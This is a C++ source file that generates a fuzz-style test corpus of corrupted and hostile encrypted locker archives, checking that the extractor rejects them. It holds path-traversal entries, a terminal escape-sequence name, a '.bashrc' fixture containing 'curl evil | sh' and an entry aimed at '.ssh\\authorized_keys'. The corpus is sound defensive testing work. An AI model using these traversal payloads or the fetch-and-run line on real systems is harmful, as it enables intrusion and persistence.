#include "LockerCorpus.h"

#include "platform/PlatformFiles.h"
#include "crypto/uCryptoProvider.h"
#include "locker/uLockerPipelines.h"
#include "crypto/uSecurityUtils.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <algorithm>
#include <limits>
#include <stdexcept>

namespace {

QByteArray Pattern(uint8_t Start, int Count) {
    QByteArray Bytes(Count, '\0');
    for (int I = 0; I < Count; ++I)
        Bytes[I] = static_cast<char>(Start + I);
    return Bytes;
}

const QByteArray MasterKey = Pattern(0x01, 32);
const QByteArray PasswordSalt = Pattern(0x40, 16);
const QByteArray RecoverySalt = Pattern(0x50, 16);
const QByteArray Nonce = Pattern(0x60, 16);

void AppendLE(QByteArray& Out, uint64_t Value, int Bytes) {
    for (int I = 0; I < Bytes; ++I)
        Out.append(static_cast<char>((Value >> (8 * I)) & 0xFF));
}

void AppendText(QByteArray& Out, const QString& Text) {
    const QByteArray Bytes = Text.toUtf8();
    AppendLE(Out, static_cast<uint32_t>(Bytes.size()), 4);
    Out += Bytes;
}

void PutInt32At(QByteArray& Bytes, int Offset, int32_t Value) {
    for (int I = 0; I < 4; ++I)
        Bytes[Offset + I] = static_cast<char>((static_cast<uint32_t>(Value) >> (8 * I)) & 0xFF);
}

void PutInt64At(QByteArray& Bytes, int Offset, int64_t Value) {
    for (int I = 0; I < 8; ++I)
        Bytes[Offset + I] = static_cast<char>((static_cast<uint64_t>(Value) >> (8 * I)) & 0xFF);
}

QByteArray Flip(QByteArray Bytes, qsizetype Offset) {
    Bytes[Offset] = static_cast<char>(Bytes[Offset] ^ 0x01);
    return Bytes;
}

// The folder every valid case holds: a sub-folder with a file, a file at the top and an empty folder.
TCorpusPayload ValidFolder() {
    TCorpusPayload P;
    P.RootName = QStringLiteral("box");
    P.Entries = {CorpusFolder(QStringLiteral("docs")), CorpusFile(QStringLiteral("docs\\a.txt"), "hello"),
                 CorpusFile(QStringLiteral("b.bin"), QByteArray("\x00\x01\x02", 3)),
                 CorpusFolder(QStringLiteral("empty"))};
    return P;
}

const QStringList ValidFolderPaths = {QStringLiteral("box"), QStringLiteral("box/b.bin"), QStringLiteral("box/docs"),
                                      QStringLiteral("box/docs/a.txt"), QStringLiteral("box/empty")};

TCorpusPayload SingleFile(const QString& RootName, const QString& EntryPath) {
    TCorpusPayload P;
    P.RootName = RootName;
    P.RootIsFolder = false;
    P.Entries = {CorpusFile(EntryPath, "single")};
    return P;
}

// A folder locker whose only file entry is stored under Path.
TCorpusPayload FolderWithPath(const QString& Path) {
    TCorpusPayload P;
    P.RootName = QStringLiteral("box");
    P.Entries = {CorpusFile(Path, "payload")};
    return P;
}

QByteArray Locker(const TCorpusPayload& Payload) {
    return BuildCorpusLocker(CorpusPlaintext(Payload));
}

} // namespace

TCorpusEntry CorpusFile(const QString& Path, const QByteArray& Data, int32_t Attr) {
    TCorpusEntry Entry;
    Entry.Path = Path;
    Entry.Attr = Attr;
    Entry.Size = Data.size();
    Entry.Data = Data;
    return Entry;
}

TCorpusEntry CorpusFolder(const QString& Path) {
    TCorpusEntry Entry;
    Entry.Path = Path;
    Entry.IsDir = true;
    Entry.Attr = 0x10 | (0755 << 16);
    return Entry;
}

QByteArray CorpusPlaintext(const TCorpusPayload& Payload) {
    if (!Payload.Raw.isEmpty())
        return Payload.Raw;
    QByteArray Out;
    AppendText(Out, Payload.RootName);
    Out.append(Payload.RootIsFolder ? '\1' : '\0');
    AppendLE(Out, static_cast<uint32_t>(Payload.OverrideCount ? Payload.Count : int32_t(Payload.Entries.size())), 4);
    for (const TCorpusEntry& Entry : Payload.Entries) {
        AppendText(Out, Entry.Path);
        Out.append(Entry.IsDir ? '\1' : '\0');
        AppendLE(Out, static_cast<uint32_t>(Entry.Attr), 4);
        AppendLE(Out, static_cast<uint64_t>(Entry.Size), 8);
        Out += Entry.Data;
    }
    return Out;
}

void WriteCorpusLocker(TFileStream& Stream, const QByteArray& Plaintext, int32_t Iterations) {
    WriteLockerHeader(Stream, WrapMasterKey(MasterKey, CorpusPassword, PasswordSalt, Iterations),
                      WrapMasterKey(MasterKey, CorpusRecoveryCode, RecoverySalt, Iterations), Nonce);
    const int64_t PayloadStart = Stream.Position();
    THmacSha256 Mac(DeriveMacKey(MasterKey));
    TAesCtrTransform Transform(DeriveEncryptionKey(MasterKey), Nonce);
    Mac.UpdateBytes(Nonce);
    QByteArray Buffer(static_cast<int>(std::clamp<qsizetype>(Plaintext.size(), 1, LockerFormat::CopyBufferSize)),
                      Qt::Uninitialized);
    TPayloadWriter Writer(Stream, Mac, Transform, Buffer.data(), static_cast<int>(Buffer.size()));
    Writer.PutBytes(Plaintext.constData(), Plaintext.size());
    Writer.Flush();
    CompleteLockerHeader(Stream, Mac.FinalBytes(), Stream.Position() - PayloadStart);
}

QByteArray BuildCorpusLocker(const QByteArray& Plaintext, int32_t Iterations) {
    QTemporaryDir Dir;
    if (!Dir.isValid())
        throw std::runtime_error("no temporary folder for the corpus");
    const QString Path = Dir.filePath(QStringLiteral("case.kvlocker"));
    {
        TFileStream Stream(Path, TFileStream::TMode::CreateNew);
        WriteCorpusLocker(Stream, Plaintext, Iterations);
        Stream.Close();
    }
    QFile File(Path);
    if (!File.open(QIODevice::ReadOnly))
        throw std::runtime_error("corpus locker cannot be read back");
    return File.readAll();
}

QList<TCorpusCase> BuildLockerCorpus() {
    const QString Ok = QString();
    const QString Extracted = QStringLiteral("Locker extracted successfully.");
    const QString InvalidFile = QStringLiteral("Invalid locker file.");
    const QString BadVersion = QStringLiteral("Unsupported locker version.");
    const QString ReadError = QStringLiteral("Stream read error");
    const QString NoSlot = QStringLiteral("Invalid password or recovery code.");
    const QString Mismatch = QStringLiteral("Locker verification failed (MAC mismatch).");
    const QString Iterations = QStringLiteral("Iterations must be positive.");
    const QString Cost = QStringLiteral("Unsupported key derivation cost.");
    const QString EncLength = QStringLiteral("Invalid encrypted string length.");
    const QString BadRoot = QStringLiteral("The locker holds an invalid name for the item it contains.");
    const QString Outside = QStringLiteral("The locker holds a path that would lead outside the destination folder.");
    const QString BadSize = QStringLiteral("Invalid entry size in locker.");
    const QString SingleFileOnly =
        QStringLiteral("A locker of a single file must hold exactly that file, under its own name.");
    const QString TooLong = QStringLiteral("The locker holds a name or path that is too long or too deeply nested.");

    QList<TCorpusCase> Cases;
    auto Add = [&](const QString& Name, const QByteArray& Bytes, const QString& ExtractMessage,
                   const QString& VerifyMessage, bool MayWrite = false, const QString& Secret = CorpusPassword) {
        TCorpusCase Case;
        Case.Name = Name;
        Case.Bytes = Bytes;
        Case.Secret = Secret;
        Case.ExtractMessage = ExtractMessage;
        Case.VerifyMessage = VerifyMessage;
        Case.MayWrite = MayWrite;
        Cases.append(Case);
        return &Cases.last();
    };
    auto Expect = [](TCorpusCase* Case, const QStringList& Paths) {
        Case->CheckPaths = true;
        Case->ExpectedPaths = Paths;
    };

    const QByteArray Valid = Locker(ValidFolder());
    const int Payload = static_cast<int>(LockerFormat::PayloadStart);

    // Sound lockers: the baseline every damaged case departs from.
    Expect(Add(QStringLiteral("valid_folder"), Valid, Extracted, Ok, true), ValidFolderPaths);
    Expect(Add(QStringLiteral("valid_folder_recovery_code"), Valid, Extracted, Ok, true, CorpusRecoveryCode),
           ValidFolderPaths);
    Expect(Add(QStringLiteral("valid_single_file"), Locker(SingleFile("note.txt", "note.txt")), Extracted, Ok, true),
           {QStringLiteral("note.txt")});
    {
        TCorpusPayload Empty;
        Empty.RootName = QStringLiteral("box");
        Expect(Add(QStringLiteral("valid_empty_folder"), Locker(Empty), Extracted, Ok, true), {QStringLiteral("box")});
    }
    Expect(Add(QStringLiteral("appended_bytes"), Valid + QByteArray(100, 'X'), Extracted, Ok, true), ValidFolderPaths);

    // Magic and version.
    {
        QByteArray B = Valid;
        B[8] = '3';
        Add(QStringLiteral("magic_wrong"), B, InvalidFile, InvalidFile);
        B = Valid;
        PutInt32At(B, 0, 6);
        Add(QStringLiteral("magic_length_6"), B, InvalidFile, InvalidFile);
        B = Valid;
        PutInt32At(B, 0, 0);
        Add(QStringLiteral("magic_length_zero"), B, InvalidFile, InvalidFile);
        B = Valid;
        PutInt32At(B, 0, -1);
        Add(QStringLiteral("magic_length_negative"), B, InvalidFile, InvalidFile);
        B = Valid;
        PutInt32At(B, 0, 0x7FFFFFFF);
        Add(QStringLiteral("magic_length_huge"), B, InvalidFile, InvalidFile);
        for (const int32_t Version : {3, 5, 0, -4}) {
            B = Valid;
            PutInt32At(B, 9, Version);
            Add(QStringLiteral("version_%1").arg(Version < 0 ? QStringLiteral("negative") : QString::number(Version)),
                B, BadVersion, BadVersion);
        }
    }

    // Iteration counts.
    {
        const struct {
            const char* Name;
            int32_t Value;
            QString Message;
        } Counts[] = {{"zero", 0, Iterations},
                      {"negative", -200000, Iterations},
                      {"above_limit", 10000001, Cost},
                      {"huge", 0x7FFFFFFF, Cost}};
        for (const auto& Count : Counts) {
            // A slot with a damaged count is skipped and the other one tried; when none opens, the
            // password slot's reason is given.
            QByteArray B = Valid;
            PutInt32At(B, 13, Count.Value);
            Add(QStringLiteral("password_iterations_%1").arg(QLatin1String(Count.Name)), B, Count.Message,
                Count.Message);
            Expect(Add(QStringLiteral("password_iterations_%1_recovery_code").arg(QLatin1String(Count.Name)), B,
                       Extracted, Count.Message, true, CorpusRecoveryCode),
                   ValidFolderPaths);
            // The recovery slot is tried only when the password slot does not open.
            B = Valid;
            PutInt32At(B, 65, Count.Value);
            Expect(Add(QStringLiteral("recovery_iterations_%1_password").arg(QLatin1String(Count.Name)), B, Extracted,
                       Ok, true),
                   ValidFolderPaths);
            Add(QStringLiteral("recovery_iterations_%1_recovery_code").arg(QLatin1String(Count.Name)), B, NoSlot, Ok,
                false, CorpusRecoveryCode);
            // Both counts damaged: nothing opens, with the password slot's reason.
            PutInt32At(B, 13, Count.Value);
            Add(QStringLiteral("both_iterations_%1_recovery_code").arg(QLatin1String(Count.Name)), B, Count.Message,
                Count.Message, false, CorpusRecoveryCode);
        }
        QByteArray B = Valid;
        PutInt32At(B, 13, 2);
        Add(QStringLiteral("password_iterations_changed"), B, NoSlot, Mismatch);
    }

    // Bit flips in the header and the payload.
    {
        const struct {
            const char* Name;
            qsizetype Offset;
        } Flips[] = {{"nonce_first", 117},
                     {"nonce_last", 132},
                     {"mac_first", 133},
                     {"mac_last", 164},
                     {"password_salt", 17},
                     {"password_wrapped", 33},
                     {"password_wrapped_last", 64},
                     {"payload_first", Payload},
                     {"payload_last", Valid.size() - 1}};
        for (const auto& F : Flips)
            Add(QStringLiteral("flip_%1").arg(QLatin1String(F.Name)), Flip(Valid, F.Offset), NoSlot, Mismatch);
        for (const qsizetype Offset : {qsizetype(69), qsizetype(85), qsizetype(116)}) {
            const QString Part = Offset == 69 ? QStringLiteral("salt") : QStringLiteral("wrapped_%1").arg(Offset);
            Expect(Add(QStringLiteral("flip_recovery_%1_password").arg(Part), Flip(Valid, Offset), Extracted, Ok, true),
                   ValidFolderPaths);
            Add(QStringLiteral("flip_recovery_%1_recovery_code").arg(Part), Flip(Valid, Offset), NoSlot, Ok, false,
                CorpusRecoveryCode);
        }
    }

    // Payload length, interrupted writes, truncation.
    {
        const int64_t Length = Valid.size() - Payload;
        QByteArray B = Valid;
        PutInt64At(B, 165, -1);
        Add(QStringLiteral("payload_length_negative"), B, QStringLiteral("Invalid locker payload length."),
            QStringLiteral("Invalid locker payload length."));
        B = Valid;
        PutInt64At(B, 165, std::numeric_limits<int64_t>::min());
        Add(QStringLiteral("payload_length_most_negative"), B, QStringLiteral("Invalid locker payload length."),
            QStringLiteral("Invalid locker payload length."));
        B = Valid;
        PutInt64At(B, 165, 0);
        Add(QStringLiteral("payload_length_zero"), B, NoSlot, Mismatch);
        B = Valid;
        PutInt64At(B, 165, Length - 1);
        Add(QStringLiteral("payload_length_short"), B, NoSlot, Mismatch);
        B = Valid;
        PutInt64At(B, 165, Length + 1);
        Add(QStringLiteral("payload_length_beyond_file"), B, ReadError, ReadError);
        B = Valid;
        PutInt64At(B, 165, std::numeric_limits<int64_t>::max());
        Add(QStringLiteral("payload_length_huge"), B, ReadError, ReadError);
        B = Valid;
        B.replace(133, 40, QByteArray(40, '\0'));
        Add(QStringLiteral("interrupted_write"), B, NoSlot, Mismatch);
        for (const int Cut : {0, 2, 4, 8, 12, 16, 40, 64, 100, 120, 150, 168, 172})
            Add(QStringLiteral("truncated_header_%1").arg(Cut), Valid.left(Cut), ReadError, ReadError);
        Add(QStringLiteral("truncated_payload_last_byte"), Valid.left(Valid.size() - 1), ReadError, ReadError);
        Add(QStringLiteral("truncated_payload_half"), Valid.left(Payload + static_cast<int>(Length / 2)), ReadError,
            ReadError);
        Add(QStringLiteral("truncated_payload_all"), Valid.left(Payload), ReadError, ReadError);
    }

    // Authenticated but hostile payloads: the MAC is right, the content is not.
    {
        QByteArray Raw;
        AppendLE(Raw, static_cast<uint32_t>(-1), 4);
        Raw += QByteArray(20, '\0');
        Add(QStringLiteral("root_name_length_negative"), BuildCorpusLocker(Raw), EncLength, EncLength);
        Raw.clear();
        AppendLE(Raw, 0x7FFFFFFF, 4);
        Raw += QByteArray(20, 'a');
        Add(QStringLiteral("root_name_length_huge"), BuildCorpusLocker(Raw), EncLength, EncLength);
        Raw.clear();
        AppendLE(Raw, 30, 4); // the payload ends inside the name
        Raw += QByteArray(10, 'a');
        Add(QStringLiteral("root_name_length_beyond_payload"), BuildCorpusLocker(Raw), EncLength, EncLength);
        Add(QStringLiteral("payload_empty"), BuildCorpusLocker(QByteArray()), ReadError, ReadError);

        TCorpusPayload P = ValidFolder();
        P.RootName.clear();
        Add(QStringLiteral("root_name_empty"), Locker(P), BadRoot,
            QStringLiteral("Locker verification failed (empty root name)."));
        const struct {
            const char* Name;
            QString Root;
        } Roots[] = {{"dot", QStringLiteral(".")},          {"dotdot", QStringLiteral("..")},
                     {"backslash", QStringLiteral("a\\b")}, {"slash", QStringLiteral("a/b")},
                     {"absolute", QStringLiteral("/tmp")},  {"drive", QStringLiteral("C:")},
                     {"drive_name", QStringLiteral("C:x")}, {"nul", QStringLiteral("a") + QChar(0) + "b"}};
        for (const auto& R : Roots) {
            P = ValidFolder();
            P.RootName = R.Root;
            Add(QStringLiteral("root_name_%1").arg(QLatin1String(R.Name)), Locker(P), BadRoot, BadRoot);
        }
        P = SingleFile(QStringLiteral(".."), QString());
        Add(QStringLiteral("root_name_dotdot_single_file"), Locker(P), BadRoot, BadRoot);

        P = ValidFolder();
        P.OverrideCount = true;
        P.Count = -1;
        Add(QStringLiteral("entry_count_negative"), Locker(P), QStringLiteral("Invalid locker entry count."),
            QStringLiteral("Locker verification failed (invalid entry count)."));
        P.Count = 5;
        Add(QStringLiteral("entry_count_too_large"), Locker(P), ReadError, Ok, true);
        P.Count = 0x7FFFFFFF;
        Add(QStringLiteral("entry_count_huge"), Locker(P), ReadError, Ok, true);
        P.Count = 1;
        Expect(Add(QStringLiteral("entry_count_small_trailing_data"), Locker(P), Extracted, Ok, true),
               {QStringLiteral("box"), QStringLiteral("box/docs")});

        P = ValidFolder();
        P.Entries[2].Size = -1;
        // A failed extraction leaves nothing, not even the entries before the damage.
        Expect(Add(QStringLiteral("entry_size_negative"), Locker(P), BadSize, Ok, true), {});
        P = ValidFolder();
        P.Entries[2].Size = std::numeric_limits<int64_t>::min();
        Add(QStringLiteral("entry_size_most_negative"), Locker(P), BadSize, Ok, true);
        P = ValidFolder();
        // Its own 3 bytes and the 22-byte record of "empty" follow it: one more is beyond the payload.
        P.Entries[2].Size = 3 + 22 + 1;
        Add(QStringLiteral("entry_size_beyond_payload"), Locker(P), BadSize, Ok, true);
        P.Entries[2].Size = std::numeric_limits<int64_t>::max();
        Add(QStringLiteral("entry_size_huge"), Locker(P), BadSize, Ok, true);
        P = ValidFolder();
        P.Entries[1].Size = 2; // the rest of "hello" is read as the next entry's path length
        Add(QStringLiteral("entry_size_short"), Locker(P), EncLength, Ok, true);

        Raw = CorpusPlaintext(ValidFolder());
        // The first entry's path length sits right after the root record.
        const int EntryStart = 4 + 3 + 1 + 4;
        PutInt32At(Raw, EntryStart, -5);
        Add(QStringLiteral("entry_path_length_negative"), BuildCorpusLocker(Raw), EncLength, Ok, true);
        PutInt32At(Raw, EntryStart, 0x7FFFFFFF);
        Add(QStringLiteral("entry_path_length_huge"), BuildCorpusLocker(Raw), EncLength, Ok, true);
    }

    // Paths that try to leave the destination, in every form the cleaning leaves or removes.
    {
        const struct {
            const char* Name;
            QString Path;
        } Refused[] = {{"inner_dotdot", QStringLiteral("a\\..\\..\\x")},
                       {"inner_dotdot_slash", QStringLiteral("a/../../x")},
                       {"trailing_dotdot", QStringLiteral("a\\..")},
                       {"dotdot_after_prefix", QStringLiteral("..\\..\\a\\..\\..\\x")},
                       {"absolute_after_clean", QStringLiteral("..\\\\x")},
                       {"absolute_after_clean_slash", QStringLiteral("..//x")},
                       {"absolute_after_clean_deep", QStringLiteral("..\\\\..\\x")},
                       {"drive_absolute", QStringLiteral("C:\\x")},
                       {"drive_relative", QStringLiteral("C:x")},
                       {"drive_lower_slash", QStringLiteral("c:/x")},
                       {"unc_after_clean", QStringLiteral("..\\\\\\server\\share\\x")},
                       {"dot_component", QStringLiteral("a\\.\\x")},
                       {"empty_component", QStringLiteral("a\\\\x")},
                       {"nul_component", QStringLiteral("a") + QChar(0) + QStringLiteral("\\x")},
                       {"dotdot_only_component", QStringLiteral("x\\..\\..")},
                       // Joined as it stands, this one would land beside the destination's parent.
                       {"deep_escape", QStringLiteral("a\\..\\..\\..\\..\\..\\escaped")}};
        for (const auto& R : Refused)
            Add(QStringLiteral("traversal_%1").arg(QLatin1String(R.Name)), Locker(FolderWithPath(R.Path)), Outside, Ok,
                true);
        Add(QStringLiteral("traversal_single_file_inner_dotdot"),
            Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral("x\\..\\..\\note.txt"))), Outside,
            SingleFileOnly, true);

        // Cleaned into harmless places below the destination.
        const struct {
            const char* Name;
            QString Path;
            QStringList Expected;
        } Cleaned[] = {
            {"parent_prefix", QStringLiteral("..\\..\\x"), {QStringLiteral("box"), QStringLiteral("box/x")}},
            {"leading_separator", QStringLiteral("\\\\x"), {QStringLiteral("box"), QStringLiteral("box/x")}},
            {"absolute_slash",
             QStringLiteral("/etc/x"),
             {QStringLiteral("box"), QStringLiteral("box/etc"), QStringLiteral("box/etc/x")}},
            {"mixed_prefix", QStringLiteral("\\..\\../x"), {QStringLiteral("box"), QStringLiteral("box/x")}}};
        for (const auto& C : Cleaned)
            Expect(Add(QStringLiteral("traversal_cleaned_%1").arg(QLatin1String(C.Name)),
                       Locker(FolderWithPath(C.Path)), Extracted, Ok, true),
                   C.Expected);
        // A single file's locker holds that file under its own name and nothing else.
        Expect(Add(QStringLiteral("traversal_single_file_dotdot"),
                   Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral(".."))), SingleFileOnly, SingleFileOnly,
                   true),
               {});
        Expect(Add(QStringLiteral("traversal_single_file_parent_prefix"),
                   Locker(SingleFile(QStringLiteral("note.txt"), QStringLiteral("..\\..\\other.txt"))), SingleFileOnly,
                   SingleFileOnly, true),
               {});
    }

    // A single file's locker that carries more than that file, or the file under another name.
    {
        TCorpusPayload P = SingleFile(QStringLiteral("note.txt"), QStringLiteral("note.txt"));
        P.Entries.append(CorpusFile(QStringLiteral(".bashrc"), "curl evil | sh"));
        Expect(Add(QStringLiteral("single_file_extra_entry"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
        P = SingleFile(QStringLiteral("note.txt"), QStringLiteral(".ssh\\authorized_keys"));
        Expect(Add(QStringLiteral("single_file_other_name"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
        P = SingleFile(QStringLiteral("note.txt"), QStringLiteral("note.txt"));
        P.Entries[0].IsDir = true;
        P.Entries[0].Size = 0;
        P.Entries[0].Data.clear();
        Expect(Add(QStringLiteral("single_file_as_folder"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
        P = SingleFile(QStringLiteral("note.txt"), QStringLiteral("note.txt"));
        P.Entries.append(CorpusFile(QStringLiteral(".profile"), "hidden after the count"));
        P.OverrideCount = true;
        P.Count = 1;
        Expect(Add(QStringLiteral("single_file_trailing_entry"), Locker(P), SingleFileOnly, SingleFileOnly, true), {});
    }

    // Names and paths beyond the bounds the reader accepts, and one right at them.
    {
        QStringList Deep;
        for (int I = 0; I <= LockerFormat::MaxPathDepth; ++I)
            Deep << QStringLiteral("d");
        Expect(Add(QStringLiteral("path_too_deep"), Locker(FolderWithPath(Deep.join('\\'))), TooLong, Ok, true), {});
        Deep.removeLast();
        QStringList DeepPaths{QStringLiteral("box")};
        QString Prefix = QStringLiteral("box");
        for (int I = 0; I < Deep.size(); ++I) {
            Prefix += QStringLiteral("/d");
            DeepPaths << Prefix;
        }
        Expect(Add(QStringLiteral("path_at_depth_bound"), Locker(FolderWithPath(Deep.join('\\'))), Extracted, Ok, true),
               DeepPaths);
        const QString LongName(LockerFormat::MaxNameBytes + 1, QLatin1Char('n'));
        Expect(Add(QStringLiteral("path_component_too_long"), Locker(FolderWithPath(LongName)), TooLong, Ok, true), {});
        QStringList Long;
        for (int I = 0; I < 20; ++I)
            Long << QString(250, QLatin1Char('p'));
        Expect(Add(QStringLiteral("path_too_long"), Locker(FolderWithPath(Long.join('\\'))), TooLong, Ok, true), {});
        TCorpusPayload P = ValidFolder();
        P.RootName = LongName;
        Add(QStringLiteral("root_name_too_long"), Locker(P), TooLong, TooLong, true);
        // Terminal control sequences in a name are refused and never shown as they are.
        P = ValidFolder();
        P.RootName = QStringLiteral("a/\x1b]0;owned\x07");
        Add(QStringLiteral("root_name_escape_sequence"), Locker(P), BadRoot, BadRoot);
    }

    // Entries that collide with each other.
    {
        Add(QStringLiteral("file_over_root_folder"), Locker(FolderWithPath(QString())),
            QStringLiteral("An existing folder is in the way of a file from the locker."), Ok, true);
        TCorpusPayload P;
        P.RootName = QStringLiteral("box");
        P.Entries = {CorpusFile(QStringLiteral("a"), "file"), CorpusFile(QStringLiteral("a\\b"), "below a file")};
        Add(QStringLiteral("folder_over_file"), Locker(P),
            QStringLiteral("An existing item that is not a folder is in the way of a folder from the locker."), Ok,
            true);
        P.Entries = {CorpusFile(QStringLiteral("x"), "first"), CorpusFile(QStringLiteral("x"), "second")};
        Expect(Add(QStringLiteral("duplicate_file"), Locker(P), Extracted, Ok, true),
               {QStringLiteral("box"), QStringLiteral("box/x")});
    }
    return Cases;
}

int WriteLockerCorpus(const QString& Folder) {
    QDir().mkpath(Folder);
    const QList<TCorpusCase> Cases = BuildLockerCorpus();
    for (const TCorpusCase& Case : Cases) {
        QFile File(QDir(Folder).filePath(Case.Name + QStringLiteral(".kvlocker")));
        if (!File.open(QIODevice::WriteOnly | QIODevice::Truncate) || File.write(Case.Bytes) != Case.Bytes.size())
            throw std::runtime_error("cannot write the corpus");
    }
    return static_cast<int>(Cases.size());
}
